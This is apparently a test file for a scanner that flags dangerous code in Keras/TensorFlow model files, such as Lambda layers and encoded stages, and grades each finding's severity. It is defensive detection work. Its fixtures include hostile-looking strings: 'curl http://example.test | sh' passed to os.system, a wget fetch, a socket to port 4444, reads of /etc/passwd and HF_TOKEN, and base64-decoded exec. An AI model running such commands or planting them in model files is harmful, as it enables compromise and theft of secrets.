import { expect, test } from 'vitest'
import type { Judgement } from '../../model/Finding.ts'
import type { Reference, Stage } from '../../model/Listing.ts'
import { locationText } from '../../model/Location.ts'
import { reference, sampleCode, sampleListing, sampleModel } from '../sample.ts'
import { dangerousNames } from './dangerousNames.ts'

type Parts = Parameters<typeof sampleCode>[0]

function found(parts: Parts): readonly Judgement[] {
  return [...dangerousNames.find(sampleModel({ code: [sampleCode(parts)] }))]
}

function grades(parts: Parts): readonly string[] {
  return found(parts).map(({ rule, severity }) => `${rule} ${severity}`)
}

test('a call with a literal command is critical, and the message is the evidence', () => {
  const [finding] = found({
    references: [reference('os.system', 'import', ["'curl http://example.test | sh'"])],
  })
  expect(finding).toMatchObject({
    rule: 'COD-001',
    severity: 'critical',
    message: "Runs `os.system('curl http://example.test | sh')` when layer `lambda_1` is called",
    code: 'code-1',
    layer: 'lambda_1',
  })
  expect(finding?.location.at(-1)).toMatchObject({ kind: 'instruction', offset: 40, length: 2 })
  expect(locationText(finding?.location ?? [])).toBe('model.h5 › code › os.system')
})

test('long literals are shortened in the middle', () => {
  const [finding] = found({
    references: [reference('os.system', 'import', [`'${'a'.repeat(500)}'`])],
  })
  expect(finding?.message).toBe(
    `Runs \`os.system('${'a'.repeat(42)}…${'a'.repeat(24)}')\` when layer \`lambda_1\` is called`,
  )
})

/** What is reached, what it earns, and an innocent twin that earns nothing of medium or more. */
const PAIRS: readonly (readonly [string, Parts, string, Parts])[] = [
  [
    'a process that is called without a literal',
    { references: [reference('subprocess.run', 'import', [])] },
    'COD-001 high',
    { references: [reference('subprocess_results', 'global', [])] },
  ],
  [
    'a process whose command stands in a list',
    { references: [reference('subprocess.Popen', 'import', ["['calc.exe']", 'shell=True'])] },
    'COD-001 critical',
    { references: [reference('dict', 'global', ['shell=True'])] },
  ],
  [
    'a process that is only passed on, beside a command',
    {
      references: [reference('os.system', 'import')],
      constants: ["'wget http://example.test/x'"],
    },
    'COD-001 critical',
    { references: [reference('os.path.join', 'import', ["'a'"])] },
  ],
  [
    'a method by the name of a process on anything',
    { references: [reference('m.system', 'unknown', ["'id'"])] },
    'COD-001 critical',
    { references: [reference('m.systems', 'unknown', ["'id'"])] },
  ],
  [
    'exec of something that is not a literal',
    { references: [reference('exec', 'global', [])] },
    'COD-002 high',
    { references: [reference('K.eval', 'global', [])] },
  ],
  [
    'exec of what was decoded',
    {
      references: [reference('exec', 'global', []), reference('base64.b64decode', 'import', [])],
    },
    'COD-002 critical',
    { references: [reference('tf.strings.unicode_decode', 'global', [])] },
  ],
  [
    'an import by a call that names what it is after',
    { references: [reference('__import__', 'global', ["'os'"])] },
    'COD-002 critical',
    { references: [reference('math', 'import')] },
  ],
  [
    'exec beside a docstring that holds its code',
    { references: [reference('exec', 'global', [])], idleConstants: ["'import os; os.getcwd()'"] },
    'COD-002 critical',
    { idleConstants: ["'import os; see https://example.test/paper'"] },
  ],
  [
    'native code',
    { references: [reference('ctypes.CDLL', 'import', ["'libm.so.6'"])] },
    'COD-003 high',
    { references: [reference('np.float32', 'global', ['1.0'])] },
  ],
  [
    'a protection that is switched off',
    { references: [reference('keras.config.enable_unsafe_deserialization', 'import', [])] },
    'COD-004 critical',
    { references: [reference('keras.config.floatx', 'import', [])] },
  ],
  [
    'a connection to an address',
    {
      references: [reference('socket.socket().connect', 'import', ["('192.0.2.1', 4444)"])],
    },
    'COD-005 critical',
    { references: [reference('x.connect', 'local', ["('a', 'b')"])] },
  ],
  [
    'a connection to a name',
    { references: [reference('http.client.HTTPSConnection', 'import', ["'example.test'"])] },
    'COD-005 critical',
    { references: [reference('http', 'global')] },
  ],
  [
    'a network library that is only imported',
    { references: [reference('requests', 'import')] },
    'COD-005 medium',
    { references: [reference('requests_per_second', 'global')] },
  ],
  [
    'a file that is opened',
    { references: [reference('open', 'global', ["'weights.bin'", "'rb'"])] },
    'COD-006 high',
    { references: [reference('x.open', 'local', [])] },
  ],
  [
    'a file of the system that is opened',
    { references: [reference('open', 'global', ["'/etc/passwd'"])] },
    'COD-006 critical',
    { references: [reference('tf.reshape', 'global', ["'/etc'"])] },
  ],
  [
    'a file that TensorFlow writes',
    { references: [reference('tf.io.write_file', 'global', ["'out.txt'"])] },
    'COD-006 high',
    { references: [reference('tf.io.parse_tensor', 'global', [])] },
  ],
  [
    'NumPy loading what may be a pickle',
    { references: [reference('np.load', 'global', [])] },
    'COD-002 high',
    { references: [reference('np.load_balance', 'global', [])] },
  ],
  [
    'unpacking without running',
    { references: [reference('zlib.decompress', 'import', [])] },
    'COD-007 high',
    { references: [reference('tf.io.zlib', 'local', [])] },
  ],
  [
    'a way to every class of the interpreter',
    { references: [reference('x.__class__.__base__.__subclasses__', 'local', [])] },
    'COD-008 high',
    { references: [reference('x.__class__.__name__', 'local')] },
  ],
  [
    'getattr with a name that leads out',
    { references: [reference('getattr', 'global', ["'system'"])] },
    'COD-008 critical',
    { references: [reference('hasattr', 'global', ["'system'"])] },
  ],
  [
    'getattr with the name of a field',
    { references: [reference('getattr', 'global', ["'units'"])] },
    'COD-012 medium',
    { references: [reference('x.units', 'local')] },
  ],
  [
    'another model from an address',
    { references: [reference('hub.load', 'global', ["'https://example.test/model'"])] },
    'COD-009 critical',
    { references: [reference('x.load_balancing', 'local', [])] },
  ],
  [
    'another model',
    { references: [reference('tf.keras.models.load_model', 'global', [])] },
    'COD-009 medium',
    { references: [reference('tf.keras.layers.Dense', 'global', [])] },
  ],
  [
    'reading a file through TensorFlow',
    { references: [reference('tf.io.read_file', 'global', [])] },
    'COD-010 medium',
    { references: [reference('tf.image.resize', 'global', ['(224, 224)'])] },
  ],
  [
    'a secret of the environment',
    { references: [reference('os.environ.get', 'import', ["'HF_TOKEN'"])] },
    'COD-011 high',
    { references: [reference('os.path.sep', 'import')] },
  ],
  [
    'Python that the file does not hold',
    { references: [reference('tf.py_function', 'global', [])] },
    'COD-012 medium',
    { references: [reference('tf.map_fn', 'global', [])] },
  ],
  [
    'a library of which nothing is known',
    { references: [reference('cv2.resize', 'import', [])] },
    'COD-013 medium',
    { references: [reference('itertools.product', 'import', [])] },
  ],
  [
    'os as a global, which Keras itself provides',
    { references: [reference('os.system', 'global', [])] },
    'KER-011 critical',
    { references: [reference('ops.sum', 'global', [])] },
  ],
  [
    'os through the private name of a trusted library',
    { references: [reference('tf._os.system', 'global', ["'id'"])] },
    'KER-013 critical',
    { references: [reference('tf.signal.stft', 'global', [])] },
  ],
  [
    'os through a module of NumPy',
    { references: [reference('np.f2py.os.system', 'global', ["'id'"])] },
    'KER-013 critical',
    { references: [reference('np.fft.rfft', 'global', [])] },
  ],
  [
    'an address without a call that uses it',
    { constants: ["'https://example.test/collect'"] },
    'COD-015 medium',
    { idleConstants: ["'See https://example.test/paper for the loss.'"] },
  ],
  [
    'a long encoded constant',
    { constants: [`'${'QUJD'.repeat(60)}'`] },
    'COD-016 medium',
    { constants: [`'${'word '.repeat(30)}'`], idleConstants: [`'${'word '.repeat(60)}'`] },
  ],
  [
    'a long text',
    { constants: [`'${'word '.repeat(60)}'`] },
    'COD-016 medium',
    { constants: [`(${'10, '.repeat(100)}1)`] },
  ],
  [
    'a hash, which is no danger by itself',
    { references: [reference('hashlib.sha256', 'import', [])] },
    'COD-019 low',
    { references: [reference('hash', 'global', [])] },
  ],
  [
    'a cipher beside the address of a pool of miners',
    {
      references: [reference('Crypto.Cipher.AES.new', 'import', [])],
      constants: ["'stratum+tcp://pool.example:3333'"],
    },
    'COD-019 high',
    { references: [reference('secrets', 'global')] },
  ],
  [
    'tf.print into a file',
    { references: [reference('tf.print', 'global', ["output_stream='file:///tmp/x'"])] },
    'COD-006 critical',
    { references: [reference('tf.print', 'global', ["'loss'"])] },
  ],
  [
    'a name through another framework',
    { references: [reference('keras.backend.tf.io.write_file', 'global', [])] },
    'COD-006 high',
    { references: [reference('keras.backend.tf.math.add', 'global', [])] },
  ],
  [
    'an operation of TensorFlow by its own name',
    { references: [reference('tf.raw_ops.WriteFile', 'global', [])] },
    'COD-006 high',
    { references: [reference('tf.raw_ops.MatMul', 'global', [])] },
  ],
  [
    'time, which no layer needs',
    { references: [reference('time.sleep', 'import', ['1'])] },
    'COD-012 medium',
    { references: [reference('time', 'global')] },
  ],
  [
    'os through an attribute of something that is not known',
    { references: [reference('os.system', 'unknown', [])] },
    'KER-013 critical',
    { references: [reference('os', 'local')] },
  ],
  [
    'an address in a default argument',
    { uses: [{ defaults: '["http://192.0.2.1/x"]' }] },
    'COD-015 medium',
    { uses: [{ defaults: '[1, 2.5, "same"]' }] },
  ],
]

test.each(PAIRS)('%s is told, and its twin is not', (_, guilty, grade, innocent) => {
  expect(grades(guilty)).toContain(grade)
  const alarms = grades(innocent).filter((text) => !/ (low|info)$/.test(text))
  expect(alarms).toEqual([])
})

test('names in nested functions count like those outside', () => {
  const child = sampleListing({ references: [reference('os.system', 'import', ["'id'"])] })
  expect(grades({ children: [child] })).toEqual(['COD-001 critical'])
})

test('a module that is imported and then used is one finding', () => {
  const references = [
    reference('os', 'import'),
    reference('os.system', 'import'),
    reference('os.system', 'import', ["'id'"]),
    reference('os.system', 'import', ["'id'"]),
  ]
  expect(grades({ references })).toEqual(['COD-001 critical'])
})

test('a bare name resolves in a module that does harm', () => {
  const references = [reference('system', 'global', ["'id'"])]
  expect(grades({ references, uses: [{ module: 'os' }] })).toEqual([
    'KER-012 critical',
    'COD-001 critical',
  ])
  expect(grades({ references, uses: [{ module: 'my.layers' }] })).toEqual(['COD-014 info'])
  expect(grades({ references, uses: [{ module: '__main__' }] })).toEqual(['COD-014 info'])
})

test('modules that only look harmful supply no globals', () => {
  const references = [
    reference('uniform', 'global', []),
    reference('attrgetter', 'global', ["'a'"]),
  ]
  const modules = ['__main__', 'keras.layers', 'tensorflow.python.data', 'random', 'numpy', 'my.os']
  for (const module of modules)
    expect(grades({ references, uses: [{ module }] }), module).toEqual(['COD-014 info'])
  expect(grades({ references, uses: [{ module: 'operator' }] })).toEqual([
    'KER-012 critical',
    'COD-008 high',
    'COD-014 info',
  ])
})

test('what is unpacked is graded one level higher, and pickles are left to their own detector', () => {
  const references = [reference('subprocess.run', 'import', [])]
  const hidden = { stages: [stage(source('import subprocess', references))] }
  expect(grades(hidden)).toEqual(['COD-001 critical', 'COD-018 high'])
  expect(grades({ ...hidden, machine: 'pickle' })).toEqual([])
})

test('an effect says when it takes place', () => {
  const effectOf = (use: object) =>
    found({ references: [reference('os.fork', 'import', [])], uses: [use] })[0]?.effect
  expect(effectOf({})).toEqual({ kind: 'process', when: 'call' })
  expect(effectOf({ slot: 'output_shape' })).toEqual({ kind: 'process', when: 'load' })
  expect(effectOf({ slot: 'kernel_initializer', layerClass: 'Dense' })?.when).toBe('load')
})

test('what lies beyond a limit is told beside what was found', () => {
  const references = Array.from({ length: 20_001 }, () =>
    reference('os.system', 'import', ["'id'"]),
  )
  expect(grades({ references })).toEqual(['COD-001 critical', 'COD-017 medium'])
  const long = [`'${'a '.repeat(200_000)}'`]
  expect(grades({ constants: long })).toEqual(['COD-016 medium', 'COD-017 medium'])
})

test('code that stands only in a second slot is graded one level higher', () => {
  const references = [reference('subprocess.run', 'import', [])]
  expect(grades({ references, uses: [{ slot: 'output_shape' }] })).toEqual(['COD-001 critical'])
  expect(grades({ references, uses: [{ slot: 'output_shape' }, {}] })).toEqual(['COD-001 high'])
  const author = [reference('scale', 'global')]
  expect(grades({ references: author, uses: [{ slot: 'mask' }] })).toEqual(['COD-014 info'])
})

test('the sentence says when the code runs', () => {
  const references = [reference('os.fork', 'import', [])]
  const sentence = (use: object): string | undefined =>
    found({ references, uses: [use] })[0]?.message
  expect(sentence({ slot: 'output_shape' })).toBe(
    'Runs `os.fork(…)` when the output shape of layer `lambda_1` is computed',
  )
  expect(sentence({ slot: 'activation', layerClass: 'Dense' })).toBe(
    'Runs `os.fork(…)` in `activation` of layer `lambda_1`',
  )
  expect(sentence({ slot: 'loss', layer: null, layerClass: null })).toBe(
    'Runs `os.fork(…)` in `loss` of the model',
  )
})

test('very many names give a bounded number of findings, and say so', () => {
  const references = Array.from({ length: 5_000 }, (_, index) =>
    reference(`os.system`, 'import', [`'${index}'`]),
  )
  const findings = found({ references })
  expect(findings.length).toBe(41)
  expect(findings.at(-1)?.message).toBe(
    'Reaches 4960 more names that can do harm when layer `lambda_1` is called',
  )
})

const tf = (names: string): readonly ReturnType<typeof reference>[] =>
  names.split(' ').map((name) => reference(name, 'global', []))

/** Bodies of Lambda layers as people write them, by what they reach. */
const ORDINARY: readonly (readonly [string, Parts])[] = [
  ['x / 255.0 - 0.5', { constants: ['255.0', '0.5'] }],
  ['K.l2_normalize(x, axis=1)', { references: tf('K.l2_normalize') }],
  ['tf.math.l2_normalize(x)', { references: tf('tf.math.l2_normalize') }],
  ['K.abs(a[0] - a[1])', { references: tf('K.abs') }],
  [
    'K.sqrt(K.maximum(K.sum(K.square(x - y)), K.epsilon()))',
    { references: tf('K.sqrt K.maximum K.sum K.square K.epsilon') },
  ],
  [
    'VAE sampling: mean + K.exp(log_var / 2) * K.random_normal(K.shape(mean))',
    { references: tf('K.exp K.random_normal K.shape K.int_shape') },
  ],
  ['tf.random.normal(tf.shape(x))', { references: tf('tf.random.normal tf.shape') }],
  ['tf.expand_dims(x, axis=-1)', { references: tf('tf.expand_dims') }],
  ['tf.image.resize(x, (224, 224))', { references: tf('tf.image.resize') }],
  [
    'import inside: tf.image.resize_images',
    {
      references: [
        reference('tensorflow', 'import'),
        reference('tensorflow.image.resize_images', 'import', []),
      ],
    },
  ],
  [
    'K.resize_images(x, 2, 2, "channels_last")',
    { references: tf('K.resize_images'), constants: ["'channels_last'"] },
  ],
  ['tf.nn.depth_to_space(x, 2)', { references: tf('tf.nn.depth_to_space tf.space_to_depth') }],
  ['CTC: K.ctc_batch_cost(*args)', { references: tf('K.ctc_batch_cost K.ctc_decode') }],
  ['YOLO: yolo_loss(*args, anchors=anchors)', { references: tf('yolo_loss anchors') }],
  [
    'applications.vgg16.preprocess_input(x)',
    { references: tf('tf.keras.applications.vgg16.preprocess_input') },
  ],
  [
    'keras.applications.resnet.preprocess_input',
    { references: [reference('keras.applications.resnet.preprocess_input', 'import', [])] },
  ],
  ['K.batch_dot(x[0], x[1]) / math.sqrt(64)', { references: tf('K.batch_dot math.sqrt') }],
  ['np.prod(x.shape[1:])', { references: [...tf('np.prod'), reference('x.shape', 'local')] }],
  ['tf.cast(x, tf.float32)', { references: [...tf('tf.cast'), reference('tf.float32', 'global')] }],
  ['K.stack([x] * n)', { references: tf('K.stack K.repeat_elements range len') }],
  ['tf.concat(tf.split(x, 2), 1)', { references: tf('tf.concat tf.split tf.transpose') }],
  ['tf.strings.lower(x)', { references: tf('tf.strings.lower tf.strings.regex_replace') }],
  ['tf.signal.rfft(x)', { references: tf('tf.signal.rfft tf.signal.stft tf.abs') }],
  ['keras.ops.mean(x)', { references: tf('keras.ops.mean ops.sum jnp.mean') }],
  ['K.in_train_phase(a, b)', { references: tf('K.in_train_phase K.learning_phase K.switch') }],
  ['tf.compat.v1.image.resize_bilinear', { references: tf('tf.compat.v1.image.resize_bilinear') }],
  [
    '(input_shape[0], 10)',
    { references: [reference('tuple', 'global', []), reference('x.append', 'local', [])] },
  ],
  ['x.get_shape().as_list()', { references: [reference('x.get_shape().as_list', 'local', [])] }],
  [
    'functools.partial and operator.mul',
    {
      references: [
        reference('functools.partial', 'import', []),
        reference('operator.mul', 'import'),
      ],
    },
  ],
  ['print(x)', { references: tf('print str isinstance') }],
]

test.each(ORDINARY)('an ordinary body stays ordinary: %s', (_, parts) => {
  const alarms = grades(parts).filter((text) => !/ (low|info)$/.test(text))
  expect(alarms).toEqual([])
})

const STEP = { operation: 'base64', inputSha256: '00', inputBytes: 40, outputBytes: 30 }

/** A stage that is found in the payload at byte 20. */
function stage(result: Stage['result'], parts: Partial<Stage> = {}): Stage {
  const plain = { id: 'stage-2', parent: null, title: 'base64 → source', steps: [STEP] }
  return { ...plain, result, offset: 20, length: 40, ...parts }
}

function source(text: string, references: readonly Reference[]): Stage['result'] {
  return { kind: 'text', language: 'python', text, references }
}

test('what hidden source reaches is told at its place in the stage', () => {
  const references = [reference('os.system', 'import', ["'id'"])]
  const [finding] = found({ stages: [stage(source("import os; os.system('id')", references))] })
  expect(finding).toMatchObject({
    rule: 'COD-001',
    severity: 'critical',
    message:
      "Runs `os.system('id')` when layer `lambda_1` is called, in stage-2 (`base64 → source`)",
  })
  expect(finding?.location.slice(-2)).toEqual([
    { kind: 'payload', name: 'stage-2', offset: 20, length: 40, via: 'unrolled' },
    { kind: 'range', name: 'os.system', offset: 40, length: 2, via: 'same' },
  ])
})

test('code in a stage of a stage, and what a pickle imports, are told too', () => {
  const references = [reference('subprocess.run', 'import', ["'id'"])]
  const { code: inner, ...listing } = sampleCode({ references })
  const stages = [
    stage(source('x = 1', [])),
    stage(
      { kind: 'code', listing: { ...listing, code: inner } },
      { id: 'stage-3', parent: 'stage-2' },
    ),
    stage({ kind: 'pickle', globals: ['posix.system'] }, { id: 'stage-4' }),
  ]
  const findings = found({ stages })
  expect(findings.map(({ rule, location }) => [rule, locationText(location)])).toEqual([
    ['COD-001', 'model.h5 › code › stage-2 › stage-3 › subprocess.run'],
    ['COD-001', 'model.h5 › code › stage-4'],
    ['COD-018', 'model.h5 › code › stage-2'],
    ['COD-018', 'model.h5 › code › stage-2 › stage-3'],
    ['COD-018', 'model.h5 › code › stage-4'],
  ])
})

test('source that stands in the open is judged by what it does alone', () => {
  const open = { steps: [{ ...STEP, operation: 'exec' }], title: 'exec → source' }
  expect(
    grades({ stages: [stage(source('y = len(x)', [reference('len', 'global', [])]), open)] }),
  ).toEqual([])
})

test('text that is hidden is searched as constants are', () => {
  const text = {
    kind: 'text',
    language: 'text',
    text: 'curl http://example.test',
    references: [],
  } as const
  expect(grades({ stages: [stage(text)] })).toEqual(['COD-015 high', 'COD-015 high'])
  expect(grades({ stages: [stage({ ...text, text: 'channels_last' })] })).toEqual([])
})
